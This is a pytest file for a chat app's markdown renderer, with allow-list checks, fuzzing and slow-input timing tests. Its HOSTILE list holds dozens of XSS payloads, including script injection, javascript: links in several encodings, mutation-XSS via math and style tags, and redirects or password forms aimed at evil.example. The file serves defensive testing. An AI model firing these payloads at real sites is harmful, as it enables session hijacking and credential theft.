"""What a reply can't do to a page. The lists here are the tests' own, so that a hole in the module's lists shows."""

import re
import time
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat import markdown
from chat.markdown import MAX_CHARACTERS, render

NUMBER = r"[0-9a-f]{12}-\d+(:\d+)?"
PLAIN_TAGS = "blockquote br code em figcaption h3 h4 h5 h6 hr s strong table tbody thead tr ul"
PLAIN_MATHS = "mn mphantom mroot msqrt msub msubsup msup mtext mtr munder munderover"
SPACE = r"[+-]?\d{0,2}(\.\d+)?(em|ex|px|pt)?"
SPACED = dict.fromkeys(("depth", "height", "lspace", "width"), SPACE)
SWITCHES = dict.fromkeys(["accent", "fence", "largeop", "movablelimits", "separator", "stretchy"], "true|false")
MATHS: dict[str, dict[str, str]] = {tag: {} for tag in PLAIN_MATHS.split()} | {
    "math": {"display": "inline|block"},
    "mfrac": {"linethickness": SPACE},
    "mi": {"mathvariant": "normal"},
    "mo": {"form": r"\w+", "rspace": SPACE, "minsize": SPACE, "maxsize": SPACE} | SPACED | SWITCHES,
    "mover": {"accent": "true|false"},
    "mpadded": {"voffset": SPACE} | SPACED,
    "mrow": {"class": "maths-box"},
    "mspace": SPACED,
    "mstyle": {"displaystyle": "true|false", "scriptlevel": r"\d"},
    "mtable": {"displaystyle": "true|false"},
    "mtd": {"class": "align-(left|center|right)"},
}
TAGS: dict[str, dict[str, str]] = (
    {
        "a": {
            "href": rf"https?://[^\s<>\"]+|mailto:[^\s<>\"]+|#fn(ref)?-{NUMBER}",
            "target": "_blank",
            "rel": "noopener noreferrer nofollow",
            "id": rf"fnref-{NUMBER}",
        },
        "div": {"class": "(code|table)-scroll", "tabindex": "0", "role": "group"},
        "figure": {"class": "code"},
        "li": {"class": "task", "id": rf"fn-{NUMBER}"},
        "ol": {"start": r"\d{1,9}"},
        "p": {"class": r"lines-\d{1,6}"},
        "pre": {"class": "plain"},
        "section": {"class": "footnotes"},
        "span": {"class": "task-mark|maths|maths-line|k|s|m|c|n|o|gi|gd", "tabindex": "0", "role": "group"},
        "sup": {"class": "footnote-ref"},
        "td": {"class": "align-(left|center|right)"},
        "th": {"class": "align-(left|center|right)"},
    }
    | {tag: {} for tag in PLAIN_TAGS.split()}
    | MATHS
)
CLEANER = nh3.Cleaner(
    tags=set(TAGS),
    attributes={tag: set(attributes) - {"rel"} for tag, attributes in TAGS.items()},
    link_rel="noopener noreferrer nofollow",
    url_schemes={"http", "https", "mailto"},
)


class Page(HTMLParser):
    """What a browser makes of some HTML: tags with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.parts: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append((tag, sorted(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.parts.append(("/" + tag, []))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


def check(page: Page) -> None:
    """Fail unless all of the page is within the lists above."""
    for tag, attributes in page.parts:
        allowed = TAGS[tag.removeprefix("/")]
        for attribute, value in attributes:
            assert re.fullmatch(allowed[attribute], value or "", re.IGNORECASE), (tag, attribute, value)


def checked(source: str) -> Page:
    html = render(source)
    page = Page(html)
    check(page)
    again = Page(CLEANER.clean(html))
    assert again.parts == page.parts
    assert again.text.lstrip("\n") == page.text.replace("\r", "\n").lstrip("\n")
    assert "<button" not in html
    return page


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=https://evil.example><input name=password><button formaction=x>Go</button></form>",
    "<button type='button' class='code-copy' data-copy-code>Copy</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>* { background: url(https://evil.example) }</style>",
    "<p style='position:fixed;inset:0' class='overlay' id='composer' name='x'>covered</p>",
    "<div hx-get='/settings/keys/' hx-trigger='load' data-hx-get='/x' hx-on:click='alert(1)'>x</div>",
    "<a href='javascript:alert(1)' target=_self onclick=alert(1)>x</a>",
    "<figure class=code><figcaption>x</figcaption></figure>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE html>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](\x01javascript:alert(1))",
    "[a](%6aavascript:alert(1))",
    "[a](vbscript:msgbox)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](blob:https://x/y)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](https:evil.example)",
    '[a](https://x" onmouseover="alert(1))',
    '[a](<https://x" onmouseover=alert(1) x=">)',
    "[a](https://x '\" onmouseover=alert(1)')",
    "[a](https://x/<script>alert(1)</script>)",
    "[a](https://x){: onclick=alert(1) .code-copy #composer}",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<https://x"onclick=alert(1)>',
    'https://x/"onclick="alert(1)',
    "![a](javascript:alert(1))",
    '![" onerror="alert(1)](https://x/y.png)',
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![![![x](https://a)](https://b)](https://c)",
    "[[[x](https://a)](https://b)](https://c)",
    '```"><script>alert(1)</script>\nx\n```',
    "```</figcaption><script>\nx\n```",
    "```python onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script><button data-copy-code>\n```",
    "`</code><script>alert(1)</script>`",
    '| <script> | b |\n|:-:|---|\n| <img src=x onerror=alert(1)> | " onclick=x |',
    "|a|\n|:-: onclick=x|\n|b|",
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "x[^1]\n\n[^1]: javascript:alert(1) </li></ol></section><script>",
    "- [x] <input type=checkbox checked onclick=alert(1)>",
    "$<script>alert(1)</script>$ $$</p><script>$$ \\(<img src=x onerror=alert(1)>\\)",
    r"$\href{javascript:alert(1)}{x} \style{color:red}{x} \class{overlay}{x} \text{<img src=x onerror=alert(1)>}$",
    r"$$\text{</mtext></math><img src=x onerror=alert(1)>} \unicode{x3C}\mathop{\text{<style>}} \hspace{999em}x$$",
    "<math><mtext></p><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style></annotation-xml><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)' xlink:href='javascript:alert(1)' style='color:red'><mi id=composer>x</mi></math>",
    "<math><mi><p><style><!--</style><a title='--><img src onerror=alert(1)>'>",
    "# <b onmouseover=alert(1)>x</b> {#composer .overlay}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;script&amp;gt;",
    "\u202e\u2066gpj.exe\u2069\u200f https://x/\u202egnp",
    "\ufeff<\u0000script>alert(1)</script>",
    "\ud800\udfff<script>",
    "＜script＞alert(1)＜/script＞ [a](https://x/＂onclick=1)",
]


@pytest.mark.parametrize("source", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "> {}", "- a\n\n  {}", "*{}*", "[{}](https://example.com)", "a\n\n{}\n\nb"])
def test_hostile_text_is_only_text(source: str, around: str) -> None:
    checked(around.replace("{}", source.replace("\n", "\n> ") if around == "> {}" else source))


@pytest.mark.parametrize("source", HOSTILE)
def test_each_net_is_enough_by_itself(source: str) -> None:
    cleaned = markdown.CLEANER.clean(source.replace("\ud800\udfff", ""))
    check(Page(cleaned))
    assert "<button" not in cleaned
    parsed = markdown.PARSER.render(source, {"docId": "0" * 12, "colour_seconds": 1, "maths_characters": 10_000})
    check(Page(re.sub(' class="(footnote-item|contains-task-list)"', "", parsed)))  # The parser's own.


def test_markup_is_shown_rather_than_dropped() -> None:
    source = "<script>alert(1)</script> <b onclick=x>y</b> <!-- z -->"
    assert checked(source).text.strip() == source


def test_characters_that_turn_the_direction_are_kept() -> None:
    assert checked("a\u202eb\u2066c").text == "a\u202eb\u2066c\n"


MARKUP = (
    r"![ ]( ](https://a.b) [^1] https://a.b &# word \( \[ \] mailto: www. &nbsp; &quot; <a: ``` ~~~ $$ ** ~~ </ &amp;"
)
PIECES = [
    *HOSTILE,
    *"*_`~[]()<>!#|\\&$^:-+=\"'/@ \t\n",
    *MARKUP.split(),
    *(
        "\n" + start
        for start in ("", "> ", "- ", "- [x] ", "1. ", "    ", "[^1]: ", "[a]: ", "|-|-|\n", "---\n", "===\n")
    ),
    "\r\n",
    "\u3000",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=6), max_size=25).map("".join))
def test_any_text_gives_only_allowed_html(source: str) -> None:
    checked(source)


@settings(max_examples=50, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=15).map("".join))
def test_the_same_text_gives_the_same_html(source: str) -> None:
    assert render(source) == render(source)


BETWEEN = [
    *" *_`~~[]()<>&$|!\\\n",
    *("**", "~~", "</", "&amp;", "\\(", "\\)", "\\[", "\\]", "{", "}", "\\text{"),
    *("\n" + start for start in ("\n", "- ", "  - ", "7. ", "> ", "## ", "\n    ", "```\n", "---\n", "$$\n", "- [ ] ")),
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.text("abcxyz", min_size=1, max_size=5), st.sampled_from(BETWEEN)), max_size=30))
def test_no_word_is_lost(pairs: list[tuple[str, str]]) -> None:
    text = checked("".join(word + between for word, between in pairs)).text
    at = 0
    for word, _ in pairs:
        at = text.find(word, at)
        assert at >= 0, word
        at += len(word)


SLOW_MARKUP = r"""
[ ] ![ []( [a]( [a](<b [a](b" [a][ [^ [^a] $a$ $a_b$ $\sqrt x$ $$\frac ab$$ \(a\) $\{
$\text{a} $a^ ** *_ a**b _a ~~a < <a: </ <!-- <? & &# &amp; ` \ \( \[ $ $$a > - * : http:
https://a) a@b ! | a| word 字
"""
SLOW = [
    *SLOW_MARKUP.split(),
    *("\u202e", "\0", " ", "\t", "\r", "\n"),
    *("*a ", "**a ", "<a ", "`a ``b ", "$a ", "https://a ", "> ", "- ", "1. ", "> - ", "[^a]: "),
    *("a\n", "a  \n", "- \n", "- a\n", "* a\n+ b\n", "# a\n", "a\n=\n", "---\n", "a\n\n", "    a\n\n", "- [ ] a\n"),
    *(
        "```\n",
        "```\na\n```\n",
        "```c\n\n\n```\n",
        "~~~a\n",
        "$$\n",
        "$$\na\n$$\n",
        "\\[a\n",
        "a\n>~~~\n",
        "[a\n=\n",
        "[a]: ]~|\n>+\n",
    ),
    *("|a|b|\n|-|-|\n", "-|-\n", "[a]: http://b\n", "[a]: http://b 'c\n", "[^a]: b\n"),
]


def repeated(unit: str, length: int) -> str:
    return (unit * (length // len(unit) + 1))[:length]


# As long as the longest text, and laid out in a sixth of a second on a core of one's own.
USUAL = repeated(
    "A paragraph with **bold** words, `code` and a [link](https://a.example/).\n\n- one\n- two\n\n", MAX_CHARACTERS
)


def takes_less_than_a_second(source: str) -> bool:
    """On a core of one's own: while others share it, a second is six times what a usual text takes meanwhile."""
    return seconds_for(source) < 1 or any(seconds_for(source) < 6 * seconds_for(USUAL) for _ in range(3))


def seconds_for(source: str) -> float:
    started = time.thread_time()
    render(source)
    return time.thread_time() - started


@pytest.mark.parametrize("unit", SLOW)
def test_nothing_takes_a_second(unit: str) -> None:
    longest = MAX_CHARACTERS - 100
    blocks = "[q]: https://a\n\n[^z]: z\n\n" + repeated(repeated(unit, 2_000) + "\n\n", longest)
    for source in (repeated(unit, 1_000_000), repeated(unit, longest), blocks):
        assert takes_less_than_a_second(source)


@pytest.mark.parametrize(
    "source",
    [
        "".join(f"{'  ' * (depth % 11)}- a\n" for depth in range(15_000)),
        ("|a" * 256 + "|\n" + "|-" * 256 + "|\n" + "|\n" * 256) * 50,
        "|a" * 40_000 + "|\n" + "|-" * 40_000 + "|\n",
        "".join("`" * length + "a" for length in range(500)),
        "![a](" + " " * 150_000 + "x",
        "https://a" + ")" * 150_000,
        "```c\n" + "\n" * 29_000,
        "```ini\n" + "=" * 29_000,
        "> " * 20 + "a\n" * 50_000,
    ],
)
def test_no_shape_takes_a_second(source: str) -> None:
    assert takes_less_than_a_second(source)
